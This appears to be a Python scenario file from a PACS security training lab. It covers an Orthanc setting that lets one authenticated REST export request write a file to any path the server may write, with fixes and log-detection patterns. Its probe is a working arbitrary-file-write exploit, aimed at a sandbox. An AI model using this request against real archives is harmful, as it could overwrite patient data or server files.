"""One request writes a file on the archive's server, wherever the archive itself may write.

The file is an image; its place is the intruder's choice. Orthanc's own configuration is such a place (CVE-2023-33466).
"""

from __future__ import annotations

from lab import references as ref
from lab.clients.live import LiveSite
from lab.i18n import t
from lab.model import NotChecked, Severity, Verdict
from lab.probing.repairs import NEW_ADMINISTRATOR_PASSWORD, NO_REMOTE_ACCESS, deny_outside
from lab.probing.web import Loot, Visitor, attempt, records, ways
from lab.sandbox.protocol import Log
from lab.scenario import Fix, Group, Outcome, Scenario, Trace

SCENARIO = Scenario(
    id="rest-fs-write",
    title=t("One request writes a file on the server"),
    group=Group.WEB,
    severity=Severity.HIGH,
    minutes=25,
    roles=(t("PACS administrator"), t("network administrator")),
    story=t(
        "A backup program fetched images by having the archive write them into a folder. It was replaced long ago; the permission to write "
        "anywhere by request is still there."
    ),
    misconfiguration={"orthanc": {"RestApiWriteToFileSystemEnabled": True}},
    hints=(
        t("Who has the administrator's password may export an image. Who says where it goes?"),
        t("POST a path such as /tmp/here to /instances/…/export, and read the answer."),
        t('One option of Orthanc decides it: {{"orthanc": {{"RestApiWriteToFileSystemEnabled": false}}}}.'),
    ),
    fixes=(
        NEW_ADMINISTRATOR_PASSWORD,
        deny_outside("/instances/"),
        Fix(
            "off",
            t("Write no files by request"),
            {"orthanc": {"RestApiWriteToFileSystemEnabled": False}},
            Outcome.REPAIRED,
            t(
                "The export answers 403. Images leave the archive as an answer to who asked for them, and nothing is written on the server."
            ),
        ),
        NO_REMOTE_ACCESS,
    ),
    traces=(
        Trace(
            Log.ACCESS,
            "default",
            r'^{intruder} - admin .*"POST /instances/[^"]*/export HTTP[^"]*" 200 ',
            t(
                "The gateway's access log has the export and the account; the path that was written to stands in the body, and in no log."
            ),
        ),
        Trace(
            Log.ORTHANC,
            "verbose",
            r"\(http\) POST /instances/.*/export",
            t("With --verbose the request is there, without the path that was written."),
        ),
    ),
    references=(ref.CVE_2023_33466, ref.CWE_73),
)

TARGET = "/tmp/pacslab-was-here.dcm"  # in the sandbox, where nothing but the archive's own programs live


def probe(site: LiveSite) -> Verdict:
    """Without an account, with a doctor's and with an administrator's stolen password: have an image written below /tmp.

    The file lies in the sandbox's own temporary folder, and goes with it.
    """
    tries = ways(site, "doctor", "administrator", stations=("intruder", "visitor"))
    return attempt(site, tries, _write, t("The archive writes no file by request."))


def _write(visitor: Visitor) -> Loot | NotChecked | None:
    listed = visitor.get("/instances?since=0&limit=1")
    if listed.status_code != 200:
        return None
    if not listed.json():
        return NotChecked(t("There is no image in the archive that could be written."))
    answer = visitor.ask("POST", f"/instances/{listed.json()[0]}/export", content=TARGET)
    if answer.status_code != 200:
        return None
    visitor.steps.append(f"    {TARGET}")
    return Loot(
        t(
            "A patient's image now lies at {path} on the server. With the same request it replaces any file that the archive may write, "
            "its database for one.",
            path=TARGET,
        ),
        records(visitor),
    )
